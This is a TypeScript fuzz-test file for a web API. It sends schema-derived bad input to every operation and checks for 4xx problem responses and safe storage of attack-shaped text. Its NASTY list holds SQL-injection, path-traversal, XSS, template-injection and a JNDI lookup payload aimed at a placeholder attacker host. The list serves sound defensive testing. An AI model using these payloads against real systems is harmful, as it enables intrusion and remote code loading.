import { randomUUID } from 'node:crypto';
import { openEventStream, pgliteTestDatabase, startTestHost, type TestHost } from '@tessera/platform/testing';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mallbots } from '../src/app.js';

/**
 * Bad input, generated from each operation's own schema as an attacker would vary it: wrong types, missing
 * and unknown fields, huge and strange text, bodies that are not JSON or not objects, wrong content types,
 * odd path and query values. Whatever comes, the answer is never a 5xx, a 400 names the field, every refusal
 * is problem+json, and the process still answers afterwards.
 */

interface JsonSchema {
  type?: string | string[];
  format?: string;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  enum?: unknown[];
  anyOf?: JsonSchema[];
  minimum?: number;
}
interface Operation {
  operationId?: string;
  parameters?: Array<{ name: string; in: 'path' | 'query'; schema: JsonSchema }>;
  requestBody?: { content: Record<string, { schema: JsonSchema }> };
  responses?: Record<string, { content?: Record<string, unknown> }>;
}

/** One answer, whichever way it was asked. */
interface Answered {
  statusCode: number;
  headers: Record<string, unknown>;
  body: string;
}

/**
 * A live route (Server-Sent Events) asked over real HTTP: a request it accepts opens a stream that never ends
 * by itself (an injected request would wait for it forever), so the answer is read up to its headers, then
 * let go. A GET carries no body: what a bad body would be is the other routes' concern.
 */
async function askLive(url: string, headers: Record<string, string>): Promise<Answered> {
  const stream = await openEventStream(url, { headers });
  await stream.close();
  return { statusCode: stream.status, headers: stream.headers, body: stream.body ?? '' };
}

const RUNS = 200;
const NASTY = [
  "' OR '1'='1",
  'Robert"); DROP TABLE stores.stores;--',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%00',
  '\u0000',
  '\ud800',
  '\u202egnp.exe',
  '🦄'.repeat(300),
  'x'.repeat(5000),
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the attack's text, sent as it is
  '${jndi:ldap://evil.example/a}',
  '<script>alert(1)</script>',
  '{{7*7}}',
  '-1',
  '1e309',
  '',
  ' ',
];

/** Percent-encoded, even text that is not well-formed UTF-16 (a lone surrogate goes as its replacement's bytes). */
function encode(value: string): string {
  try {
    return encodeURIComponent(value);
  } catch {
    return [...Buffer.from(value)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join('');
  }
}

/** A value the schema accepts, as far as its type goes: the base each mutation changes one thing of. */
function sample(schema: JsonSchema | undefined): unknown {
  if (!schema) return 'x';
  if (schema.enum) return schema.enum[0];
  if (schema.anyOf) return sample(schema.anyOf[0]);
  const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
  switch (type) {
    case 'string':
      return schema.format === 'uuid'
        ? randomUUID()
        : schema.format === 'date-time'
          ? new Date().toISOString()
          : 'x';
    case 'integer':
    case 'number':
      return Math.max(1, schema.minimum ?? 1);
    case 'boolean':
      return true;
    case 'array':
      return [];
    case 'object':
      return Object.fromEntries(
        Object.entries(schema.properties ?? {}).map(([key, value]) => [key, sample(value)]),
      );
    default:
      return 'x';
  }
}

/** One generated request against an operation. */
interface Attempt {
  url: string;
  payload?: string;
  contentType?: string;
  what: string;
}

function attempts(
  path: string,
  operation: Operation,
  jsonBody: JsonSchema | undefined,
): fc.Arbitrary<Attempt> {
  const pathParams = (operation.parameters ?? []).filter((p) => p.in === 'path');
  const queryParams = (operation.parameters ?? []).filter((p) => p.in === 'query');
  const base = jsonBody ? (sample(jsonBody) as Record<string, unknown>) : undefined;
  const fields = Object.keys(jsonBody?.properties ?? {});
  const weird = fc.oneof(
    fc.constantFrom(...NASTY),
    fc.string({ unit: 'binary', maxLength: 60 }),
    fc.string({ maxLength: 2000 }),
  );
  const urlWith = (values: Record<string, string>, query = '') =>
    path.replace(/\{(\w+)\}/g, (_match, name: string) =>
      name in values
        ? (values[name] as string)
        : String(sample(pathParams.find((p) => p.name === name)?.schema)),
    ) + query;
  const json = (body: unknown, what: string): Attempt => ({
    url: urlWith({}),
    payload: JSON.stringify(body),
    contentType: 'application/json',
    what,
  });

  const strategies: Array<fc.Arbitrary<Attempt>> = [];
  if (pathParams.length > 0) {
    strategies.push(
      fc
        .tuple(fc.constantFrom(...pathParams.map((p) => p.name)), weird, fc.boolean())
        .map(([name, value, encoded]) => ({
          url: urlWith({ [name]: encoded ? encode(value) : value.replace(/[\s/?#]/g, '') || '%' }),
          ...(base ? { payload: JSON.stringify(base), contentType: 'application/json' } : {}),
          what: `path ${name} = ${JSON.stringify(value).slice(0, 80)}`,
        })),
    );
  }
  if (queryParams.length > 0) {
    strategies.push(
      fc
        .tuple(
          fc.constantFrom(...queryParams.map((p) => p.name)),
          fc.oneof(weird, fc.jsonValue().map(String)),
        )
        .map(([name, value]) => ({
          url: urlWith({}, `?${name}=${encode(value)}`),
          what: `query ${name} = ${JSON.stringify(value).slice(0, 80)}`,
        })),
    );
  }
  if (base) {
    if (fields.length > 0) {
      strategies.push(
        fc
          .tuple(fc.constantFrom(...fields), fc.jsonValue({ maxDepth: 2 }))
          .filter(([field, value]) => typeof value !== typeof base[field])
          .map(([field, value]) =>
            json({ ...base, [field]: value }, `body.${field} = ${JSON.stringify(value).slice(0, 80)}`),
          ),
        fc.constantFrom(...fields).map((field) => {
          const { [field]: _gone, ...rest } = base;
          return json(rest, `body without ${field}`);
        }),
        fc
          .tuple(fc.constantFrom(...fields), weird)
          .map(([field, value]) =>
            json({ ...base, [field]: value }, `body.${field} = ${JSON.stringify(value).slice(0, 80)}`),
          ),
      );
    }
    strategies.push(
      fc
        .tuple(
          fc.string({ minLength: 1, maxLength: 20 }).filter((key) => !fields.includes(key)),
          fc.jsonValue({ maxDepth: 1 }),
        )
        .map(([key, value]) => json({ ...base, [key]: value }, `unknown field ${JSON.stringify(key)}`)),
      fc
        .jsonValue({ maxDepth: 2 })
        .filter((value) => typeof value !== 'object' || value === null || Array.isArray(value))
        .map((value) => json(value, `body ${JSON.stringify(value).slice(0, 80)}`)),
      fc
        .string({ maxLength: 200 })
        .filter((text) => {
          try {
            JSON.parse(text);
            return false;
          } catch {
            return true;
          }
        })
        .map((text) => ({
          url: urlWith({}),
          payload: text,
          contentType: 'application/json',
          what: 'malformed JSON',
        })),
    );
  }
  strategies.push(
    fc
      .tuple(
        fc.constantFrom(
          'text/plain',
          'application/x-www-form-urlencoded',
          'multipart/form-data; boundary=x',
          'application/xml',
          'application/json; charset=latin1',
        ),
        fc.string({ maxLength: 100 }),
      )
      .map(([contentType, payload]) => ({
        url: urlWith({}),
        payload,
        contentType,
        what: `content type ${contentType}`,
      })),
  );
  return fc.oneof(...strategies);
}

describe('generated bad input against every operation', () => {
  let api: TestHost;
  let token: string;
  let operations: Array<{ method: string; path: string; operation: Operation }>;

  beforeAll(async () => {
    api = await startTestHost(pgliteTestDatabase, mallbots.modules);
    token = await api.tokenFor({ subject: 'operator:fuzz', roles: ['operator'], username: 'fuzz' });
    const document = (await api.call('GET', '/openapi.json')).json<{
      paths: Record<string, Record<string, Operation>>;
    }>();
    operations = Object.entries(document.paths).flatMap(([path, byMethod]) =>
      Object.entries(byMethod).map(([method, operation]) => ({
        method: method.toUpperCase(),
        path,
        operation,
      })),
    );
  });
  afterAll(() => api?.close());

  it('covers every documented operation', () => {
    expect(operations.length).toBeGreaterThan(50);
  });

  it(`answers ${RUNS} generated bad requests per operation with a 4xx problem, never a 5xx`, async () => {
    for (const { method, path, operation } of operations) {
      // Logging out ends the session the fuzzer's token belongs to: it is called last, on its own.
      if (path === '/auth/logout') continue;
      const jsonBody = operation.requestBody?.content['application/json']?.schema;
      const live = operation.responses?.['200']?.content?.['text/event-stream'] !== undefined;
      await fc.assert(
        fc.asyncProperty(attempts(path, operation, jsonBody), async (attempt) => {
          const response: Answered = live
            ? await askLive(`${api.host.url}${attempt.url}`, { authorization: `Bearer ${token}` })
            : await api.host.http.inject({
                method: method as 'GET',
                url: attempt.url,
                headers: {
                  authorization: `Bearer ${token}`,
                  ...(attempt.contentType ? { 'content-type': attempt.contentType } : {}),
                },
                ...(attempt.payload === undefined ? {} : { payload: attempt.payload }),
              });
          const where = `${method} ${path}, ${attempt.what}: ${response.statusCode} ${response.body.slice(0, 300)}`;
          expect(response.statusCode, where).toBeLessThan(500);
          if (response.statusCode >= 400) {
            const type = String(response.headers['content-type']);
            // The token endpoint answers its own errors as RFC 6749 says (application/json with `error`).
            const oauth = path.startsWith('/oauth/');
            expect(type, where).toMatch(
              oauth ? /^application\/(problem\+)?json/ : /^application\/problem\+json/,
            );
            if (response.statusCode === 400 && !oauth) {
              const problem = JSON.parse(response.body) as { errors?: Array<{ field: string }> };
              expect(problem.errors?.length, `${where}: names no field`).toBeGreaterThan(0);
            }
          }
        }),
        { numRuns: RUNS, seed: 42 },
      );
    }
    const logout = await api.host.http.inject({
      method: 'POST',
      url: '/auth/logout',
      headers: { 'content-type': 'text/plain' },
      payload: 'x',
    });
    expect(logout.statusCode).toBeLessThan(500);
  }, 600_000);

  it('is still healthy afterwards', async () => {
    expect((await api.call('GET', '/liveness')).statusCode).toBe(200);
    expect((await api.call('GET', '/readiness')).statusCode).toBe(200);
    expect((await api.call('GET', '/api/stores')).statusCode).toBe(200);
  });
});

describe('text shaped like an attack is data', () => {
  let api: TestHost;
  beforeAll(async () => {
    api = await startTestHost(pgliteTestDatabase, mallbots.modules);
  });
  afterAll(() => api?.close());

  const shapes = NASTY.filter(
    (text) =>
      text.trim() !== '' && !text.includes('\u0000') && !text.includes('\ud800') && text.length <= 100,
  );

  it('stores SQL-injection-, path-traversal- and template-shaped text as it was sent, and returns it', async () => {
    for (const text of shapes) {
      const created = await api.call('POST', '/api/stores', { name: text, location: text });
      expect(created.statusCode, `${text}: ${created.body}`).toBe(201);
      const { id } = created.json<{ id: string }>();
      const read = (await api.call('GET', `/api/stores/${id}`)).json<{
        store: { name: string; location: string };
      }>();
      expect(read.store).toMatchObject({ name: text, location: text });
      const product = await api.call('POST', `/api/stores/${id}/products`, {
        name: text,
        description: text,
        sku: text,
        price: 1,
      });
      expect(product.statusCode, `${text}: ${product.body}`).toBe(201);
      const { id: productId } = product.json<{ id: string }>();
      const readProduct = (await api.call('GET', `/api/stores/products/${productId}`)).json<{
        product: { name: string; description: string; sku: string };
      }>();
      expect(readProduct.product).toMatchObject({ name: text, description: text, sku: text });
    }
    // Nothing was dropped or rewritten: every store is there.
    const { stores } = (await api.call('GET', '/api/stores')).json<{ stores: unknown[] }>();
    expect(stores.length).toBeGreaterThanOrEqual(shapes.length);
  });
});
